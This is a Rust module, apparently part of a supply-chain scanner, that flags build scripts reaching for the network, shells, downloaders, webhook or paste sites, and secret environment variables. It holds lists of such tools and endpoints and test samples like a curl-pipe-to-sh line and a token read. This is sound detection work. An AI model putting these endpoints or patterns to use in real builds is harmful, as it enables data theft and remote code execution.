//! What code that runs at build time reaches for, read from its tokens: network, shell, web hooks, programs, environment. Words in
//! comments, in messages to people and in code that is only generated (`quote!`) do not count.

use super::lex::{Lexer, Token};
use super::{Reach, ReachKind};

/// So much of a source file is looked at for this; a longer one is not understood.
pub(super) const MAX_SOURCE: usize = 2 << 20;
/// So many are kept of one file.
const MAX_REACHES: usize = 64;
/// The longest word that is kept, in characters.
const MAX_WORD: usize = 80;

/// Types that open connections.
const SOCKETS: [&str; 4] = ["TcpStream", "TcpListener", "UdpSocket", "ToSocketAddrs"];
/// Crates that speak to the network.
const NETWORK_CRATES: [&str; 11] =
    ["ureq", "reqwest", "curl", "minreq", "hyper", "attohttpc", "isahc", "surf", "ehttp", "http_req", "socket2"];
/// Programs that run text.
const SHELLS: [&str; 8] = ["sh", "bash", "zsh", "dash", "ksh", "cmd", "powershell", "pwsh"];
/// Programs that move files between machines.
const DOWNLOADERS: [&str; 10] =
    ["curl", "wget", "aria2c", "certutil", "bitsadmin", "nc", "ncat", "socat", "scp", "Invoke-WebRequest"];
/// Parts of addresses that take what others send, or hand out what nobody vouches for.
const HOOKS: [&str; 21] = [
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "api.telegram.org/bot",
    "hooks.slack.com/",
    "webhook.site",
    "pastebin.com/",
    "paste.ee/",
    "hastebin.com/",
    "rentry.co/",
    "transfer.sh/",
    "file.io/",
    "requestbin.",
    "pipedream.net",
    "ngrok.io",
    "ngrok-free.app",
    "trycloudflare.com",
    "burpcollaborator.net",
    "oastify.com",
    "interact.sh",
    "oast.fun",
    "dnslog.cn",
];
/// Macros and methods whose text is for people.
const MESSAGES: [&str; 27] = [
    "panic",
    "println",
    "print",
    "eprintln",
    "eprint",
    "assert",
    "assert_eq",
    "assert_ne",
    "debug_assert",
    "expect",
    "unreachable",
    "todo",
    "unimplemented",
    "compile_error",
    "bail",
    "ensure",
    "anyhow",
    "abort",
    "abort_call_site",
    "emit_error",
    "emit_warning",
    "error",
    "warn",
    "info",
    "debug",
    "help",
    "note",
];
/// Macros whose content is code of somebody else, later.
const QUOTES: [&str; 5] = ["quote", "quote_spanned", "parse_quote", "parse_quote_spanned", "format_ident"];

/// What a source file says of itself, where it runs at build time.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct SourceFile {
    pub reaches: Vec<Reach>,
    /// `mod name;`
    pub modules: Vec<String>,
    /// `include!("…")` and `#[path = "…"]`, as written.
    pub included: Vec<String>,
    /// Where it asks the linker for libraries: its short strings, one of which names the folder.
    pub search_paths: Vec<String>,
}

/// What an open bracket stands in.
#[derive(Clone, Copy, Default)]
struct Place {
    message: bool,
    quoted: bool,
    attribute: bool,
    test: bool,
}

struct Reader<'t, 'f> {
    path: &'f str,
    tokens: Vec<(Token<'t>, u32)>,
    places: Vec<Place>,
    /// The next block belongs to `#[cfg(test)]`.
    before_test: bool,
    /// A program is started whose name is not written there.
    starts_unnamed: bool,
    starts_any: bool,
    found: SourceFile,
}

/// Reads a source file of at most [`MAX_SOURCE`] bytes.
pub(super) fn read(path: &str, text: &str) -> SourceFile {
    let tokens: Vec<_> = Lexer::new(text).collect();
    let starts = |named: bool| {
        tokens.windows(6).any(|six| match six {
            [(command, _), (a, _), (b, _), (new, _), (open, _), (program, _)] => {
                command.is_word("Command")
                    && a.is_mark(b':')
                    && b.is_mark(b':')
                    && new.is_word("new")
                    && open.is_mark(b'(')
                    && (named || !matches!(program, Token::Text(_)))
            }
            _ => false,
        })
    };
    let (starts_any, starts_unnamed) = (starts(true), starts(false));
    let found = SourceFile::default();
    let mut reader =
        Reader { path, tokens, places: vec![Place::default()], before_test: false, starts_unnamed, starts_any, found };
    for at in 0..reader.tokens.len() {
        reader.token(at);
    }
    reader.found.search_paths = search_paths(&reader.tokens);
    reader.found.reaches.sort();
    reader.found.reaches.dedup_by(|a, b| (a.kind, &a.word) == (b.kind, &b.word));
    reader.found
}

fn search_paths(tokens: &[(Token<'_>, u32)]) -> Vec<String> {
    let texts = || tokens.iter().filter_map(|(token, _)| if let Token::Text(text) = token { Some(text) } else { None });
    if !texts().any(|text| text.contains("rustc-link-search") || text.contains("rustc-link-arg")) {
        return Vec::new();
    }
    let folder = |text: &str| text.rsplit('=').next().unwrap_or(text).trim_end_matches(['/', '\\']).to_owned();
    texts().filter(|text| text.len() < 256).take(4096).map(|text| folder(text)).collect()
}

impl<'t> Reader<'t, '_> {
    /// The token so many places before.
    fn back(&self, at: usize, by: usize) -> &Token<'t> {
        at.checked_sub(by).map_or(&Token::Mark(0), |at| &self.tokens[at].0)
    }

    fn ahead(&self, at: usize, by: usize) -> &Token<'t> {
        self.tokens.get(at + by).map_or(&Token::Mark(0), |(token, _)| token)
    }

    /// The word that a call bracket belongs to: `name(`, `name!(`.
    fn callee(&self, at: usize) -> (&str, bool) {
        match (self.back(at, 1), self.back(at, 2)) {
            (Token::Mark(b'!'), Token::Word(name)) => (name, true),
            (Token::Word(name), _) => (name, false),
            _ => ("", false),
        }
    }

    fn token(&mut self, at: usize) {
        let place = self.places.last().copied().unwrap_or_default();
        match self.tokens[at].0.clone() {
            Token::Mark(open @ (b'(' | b'[' | b'{')) => self.open(at, open, place),
            Token::Mark(b')' | b']' | b'}') if self.places.len() > 1 => {
                self.places.pop();
            }
            Token::Mark(b';') => self.before_test = false,
            Token::Word(_) if place.test => {}
            Token::Word("mod") if self.ahead(at, 2).is_mark(b';') && !self.before_test => {
                if let Token::Word(name) = *self.ahead(at, 1) {
                    self.found.modules.push(name.to_owned());
                }
            }
            Token::Word("test") if place.attribute && self.back(at, 1).is_mark(b'(') && self.back(at, 2).is_word("cfg") => {
                self.before_test = true;
            }
            Token::Word(word) if !place.quoted && !place.attribute => self.word(at, word),
            Token::Text(text) => self.text(at, &text, place),
            _ => {}
        }
    }

    fn open(&mut self, at: usize, open: u8, place: Place) {
        let (name, is_macro) = self.callee(at);
        let formats = matches!(name, "format" | "concat" | "format_args") || name.is_empty();
        let attribute = place.attribute
            || (open == b'['
                && (self.back(at, 1).is_mark(b'#') || (self.back(at, 1).is_mark(b'!') && self.back(at, 2).is_mark(b'#'))));
        let inner = Place {
            message: (place.message && formats) || (open != b'{' && MESSAGES.contains(&name)),
            quoted: place.quoted || (is_macro && QUOTES.contains(&name)),
            attribute,
            test: place.test || (open == b'{' && self.before_test && !place.attribute),
        };
        if open == b'{' && !place.attribute {
            self.before_test = false;
        }
        self.places.push(inner);
    }

    fn word(&mut self, at: usize, word: &str) {
        let follows_path = self.back(at, 1).is_mark(b':') && self.back(at, 2).is_mark(b':');
        let leads_path = self.ahead(at, 1).is_mark(b':') && self.ahead(at, 2).is_mark(b':');
        if SOCKETS.contains(&word) {
            return self.reach(at, ReachKind::Network, word);
        }
        let is_used = leads_path || self.back(at, 1).is_word("crate") || self.back(at, 1).is_word("use");
        if NETWORK_CRATES.contains(&word) && is_used && !follows_path && !self.back(at, 1).is_mark(b'.') {
            return self.reach(at, ReachKind::Network, word);
        }
        // `std::net::*`; its types of addresses are harmless, its sockets have their names.
        if word == "net" && follows_path && leads_path && self.ahead(at, 3).is_mark(b'*') {
            return self.reach(at, ReachKind::Network, "std::net");
        }
        if matches!(word, "socket" | "connect" | "getaddrinfo") && follows_path && self.back(at, 3).is_word("libc") {
            return self.reach(at, ReachKind::Network, &format!("libc::{word}"));
        }
        if word == "Command" && leads_path && self.ahead(at, 3).is_word("new") {
            let program = match self.ahead(at, 5) {
                Token::Text(program) => program.clone().into_owned(),
                _ => "Command::new".to_owned(),
            };
            if program_kind(&program).is_none() {
                self.reach(at, ReachKind::Process, &program);
            }
        }
        if follows_path && self.back(at, 3).is_word("env") {
            self.environment(at, word);
        }
    }

    /// All variables at once, or one that keeps a secret or leads to one.
    fn environment(&mut self, at: usize, word: &str) {
        if matches!(word, "vars" | "vars_os") {
            return self.reach(at, ReachKind::Environment, &format!("env::{word}"));
        }
        let Token::Text(name) = self.ahead(at, 2).clone() else { return };
        let telling = ["TOKEN", "SECRET", "PASSWORD", "CREDENTIAL", "AWS_ACCESS", "SSH_AUTH", "API_KEY", "PRIVATE_KEY"];
        let is_telling = telling.iter().any(|part| name.contains(part)) || matches!(&*name, "HOME" | "USERPROFILE");
        if matches!(word, "var" | "var_os") && is_telling {
            self.reach(at, ReachKind::Environment, &name);
        }
    }

    fn text(&mut self, at: usize, text: &str, place: Place) {
        let (callee, is_macro) = if self.back(at, 1).is_mark(b'(') { self.callee(at - 1) } else { ("", false) };
        let is_program = callee == "new" && self.back(at, 5).is_word("Command");
        let is_path = place.attribute && self.back(at, 1).is_mark(b'=') && self.back(at, 2).is_word("path");
        if is_path || (is_macro && callee == "include") {
            self.found.included.push(text.to_owned());
        }
        if place.test {
            return;
        }
        if let Some(hook) = web_hook(text) {
            return self.reach(at, ReachKind::Webhook, hook);
        }
        if place.quoted || place.attribute || place.message {
            return;
        }
        if (is_program && program_kind(text).is_some()) || self.is_shell_text(at, text) {
            return self.reach(at, ReachKind::Shell, text);
        }
        if is_fetched(text) {
            self.reach(at, ReachKind::Network, text);
        }
    }

    /// A shell's or a downloader's name, or a line for one, where programs are started.
    fn is_shell_text(&self, at: usize, text: &str) -> bool {
        // A list of shells to write completions for is no call of one.
        let is_pattern = self.ahead(at, 1).is_mark(b'=') && self.ahead(at, 2).is_mark(b'>');
        if is_pattern || self.back(at, 1).is_mark(b'=') && self.back(at, 2).is_mark(b'=') {
            return false;
        }
        if self.starts_unnamed && program_kind(text).is_some() && self.is_call_or_value(at) {
            return true;
        }
        let piped = ["| sh", "|sh", "| bash", "|bash", "| iex", "|iex"].iter().any(|pipe| text.contains(pipe));
        let first = text.split_whitespace().next().unwrap_or_default();
        let is_line = text.trim() != first && text.contains("://") && program_kind(first) == Some(Program::Downloader);
        (piped || is_line) && (self.starts_any || self.callee(at.saturating_sub(1)).1 || is_line)
    }

    /// Not an argument of another program: `arg("sh")`, an element of a list.
    fn is_call_or_value(&self, at: usize) -> bool {
        match self.back(at, 1) {
            Token::Mark(b'=' | b'{' | b'>') => true,
            Token::Mark(b'(') => {
                !matches!(self.callee(at - 1).0, "arg" | "args" | "join" | "push" | "extension" | "with_extension")
            }
            _ => false,
        }
    }

    fn reach(&mut self, at: usize, kind: ReachKind, word: &str) {
        if self.found.reaches.len() < MAX_REACHES {
            let word = word.chars().take(MAX_WORD).collect();
            self.found.reaches.push(Reach { kind, word, path: self.path.to_owned(), line: self.tokens[at].1 });
        }
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Program {
    Shell,
    Downloader,
}

/// What a program is, by its name: `/bin/sh`, `curl.exe`.
fn program_kind(program: &str) -> Option<Program> {
    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    if SHELLS.contains(&name) { Some(Program::Shell) } else { DOWNLOADERS.contains(&name).then_some(Program::Downloader) }
}

/// What makes an address one that data is sent to, or that nobody stands behind.
fn web_hook(text: &str) -> Option<&str> {
    if let Some(at) = HOOKS.iter().find_map(|hook| text.find(hook)) {
        return text.get(at..);
    }
    for (at, _) in text.match_indices("://").take(64) {
        let host = text[at + 3..].split(['/', '?', '#', '"', ' ', '\'']).next().unwrap_or_default();
        let host = host.rsplit('@').next().unwrap_or(host);
        let name = host.split(':').next().unwrap_or(host);
        let is_local = name.starts_with("127.") || matches!(name, "0.0.0.0" | "255.255.255.255");
        if name.ends_with(".onion") || (name.parse::<std::net::Ipv4Addr>().is_ok() && !is_local) {
            return Some(host);
        }
    }
    None
}

/// An address in code: not a sentence that has one, and not one that is only a name (a namespace, documentation, this machine).
fn is_fetched(text: &str) -> bool {
    const NAMES: [&str; 9] =
        ["www.w3.org/", "schemas.", "localhost", "127.", "[::1]", "example.", "www.example.", "docs.rs/", "doc.rust-lang.org/"];
    let text = text.trim_start();
    let rest = text.strip_prefix("https://").or_else(|| text.strip_prefix("http://"));
    rest.is_some_and(|rest| !rest.contains(char::is_whitespace) && !NAMES.iter().any(|name| rest.starts_with(name)))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn found(text: &str) -> Vec<String> {
        let kinds = |reach: &Reach| format!("{:?} {} {}", reach.kind, reach.word, reach.line);
        read("build.rs", text).reaches.iter().map(kinds).collect()
    }

    #[test]
    fn what_code_reaches_for() {
        for (text, expected) in [
            ("use std::net::TcpStream;\nlet s = TcpStream::connect(a);", "Network TcpStream 1"),
            ("std::net::UdpSocket::bind(a)", "Network UdpSocket 1"),
            ("use std::net::*;", "Network std::net 1"),
            ("ureq::get(url).call()", "Network ureq 1"),
            ("extern crate reqwest;", "Network reqwest 1"),
            ("use curl::easy::Easy;", "Network curl 1"),
            ("unsafe { libc::connect(fd, a, b) }", "Network libc::connect 1"),
            ("let url = \"https://a.org/x.tar.gz\";", "Network https://a.org/x.tar.gz 1"),
            ("let url = format!(\"https://a.org/{}\", version);", "Network https://a.org/{} 1"),
            ("let url = \"\\x68ttp://a.org/x\";", "Network http://a.org/x 1"),
            ("Command::new(\"sh\").arg(\"-c\")", "Shell sh 1"),
            ("std::process::Command::new(\"/bin/bash\")", "Shell /bin/bash 1"),
            ("Command::new(\"cmd\").args([\"/C\", x])", "Shell cmd 1"),
            ("Command::new(\"powershell.exe\")", "Shell powershell.exe 1"),
            ("Command::new(\"curl\").arg(u)", "Shell curl 1"),
            ("let p = \"wget\";\nCommand::new(p)", "Shell wget 1, Process Command::new 2"),
            ("cmd!(s, \"curl -L https://a.org/x | sh\")", "Shell curl -L https://a.org/x | sh 1"),
            ("let h = \"https://discord.com/api/webhooks/1/x\";", "Webhook discord.com/api/webhooks/1/x 1"),
            ("panic!(\"https://api.telegram.org/bot1:x\")", "Webhook api.telegram.org/bot1:x 1"),
            ("quote! { \"https://webhook.site/x\" }", "Webhook webhook.site/x 1"),
            ("let u = \"http://203.0.113.9:8080/a\";", "Webhook 203.0.113.9:8080 1"),
            ("let u = \"tcp://abcdefgh.onion/\";", "Webhook abcdefgh.onion 1"),
            ("Command::new(\"git\")", "Process git 1"),
            ("Command::new(program)", "Process Command::new 1"),
            ("for (k, v) in std::env::vars() {}", "Environment env::vars 1"),
            ("env::var(\"CARGO_REGISTRY_TOKEN\")", "Environment CARGO_REGISTRY_TOKEN 1"),
        ] {
            assert_eq!(found(text).join(", "), expected, "{text}");
        }
    }

    /// All of these stand in build scripts and macros of real crates.
    #[test]
    fn what_is_only_said_or_generated_does_not_count() {
        for text in [
            "// TcpStream, see https://a.org/x\n/* curl https://a.org | sh */\n//! reqwest::get",
            "println!(\"cargo:rerun-if-env-changed=CURL\");",
            "println!(\"cargo:warning=see https://a.org/x\");",
            "panic!(\"https://a.org/x\")",
            "panic!(\n    \"{}\",\n    concat!(\"x\", \"https://a.org/build.md\")\n)",
            "x.expect(\"https://a.org/x\")",
            "let help = \"\n\nSee https://docs.rs/openssl for more.\n\";",
            "let url = format!(\"https://docs.rs/{name}\");",
            "let ns = \"http://www.w3.org/2000/svg\";",
            "let me = \"http://localhost:8080/\"; let too = \"http://127.0.0.1/\";",
            "quote! { std::net::TcpStream::connect(#a); ureq::get(\"https://a.org\") }",
            "#[doc = \"https://a.org/x\"]\nfn a() {}",
            "use std::net::{IpAddr, Ipv4Addr};",
            "let curl = true; self.hyper.curl(); a::hyper::b();",
            "generate_to(Shell::Bash, &mut command, \"bash\")",
            "match shell { \"sh\" => 1, \"bash\" => 2 }",
            "Command::new(rustc).arg(\"sh\").args(&[\"cmd\"])",
            "Path::new(\"x\").extension() == Some(\"sh\")",
            "env::var(\"OUT_DIR\"); env::var_os(\"TARGET\")",
            "#[cfg(test)]\nmod tests {\n    use std::net::TcpStream;\n    fn a() { TcpStream::connect(\"https://a.org\") }\n}",
        ] {
            let found = found(text);
            let telling: Vec<_> = found.iter().filter(|one| !one.starts_with("Process")).collect();
            assert!(telling.is_empty(), "{text}: {telling:?}");
        }
    }

    #[test]
    fn which_files_belong_to_it() {
        let file = read(
            "build.rs",
            "mod a; pub mod b;\n#[path = \"x/c.rs\"] mod c;\ninclude!(\"d.rs\");\n#[cfg(test)] mod e;\nmod f { }",
        );
        assert_eq!(
            (file.modules, file.included),
            (vec!["a".into(), "b".into(), "c".into()], vec!["x/c.rs".into(), "d.rs".into()])
        );
    }

    proptest! {
        #[test]
        fn any_text_is_read(text in "([a-z:!(){}\\[\\]#\"';/\\\\\n ]|Command|new|cfg|test|mod|https://){0,60}", other in any::<String>()) {
            prop_assert!(read("build.rs", &text).reaches.len() <= MAX_REACHES);
            prop_assert!(read("build.rs", &other).reaches.len() <= MAX_REACHES);
        }
    }
}
